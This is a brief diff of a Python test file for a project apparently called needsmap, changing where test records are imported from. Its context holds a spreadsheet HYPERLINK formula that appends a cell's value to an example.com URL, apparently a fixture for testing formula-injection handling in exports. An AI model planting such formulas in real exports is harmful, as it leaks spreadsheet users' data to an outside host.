@@ -12,7 +12,7 @@ from PIL import Image
 
 from needsmap import brief, exports, maps, queries, store
 from needsmap.filters import Filter
-from tests.test_queries import RECORDS
+from tests.records import RECORDS
 
 FORMULA = '=HYPERLINK("http://example.com/?"&A1,"点这里")'
 EXTRA = [
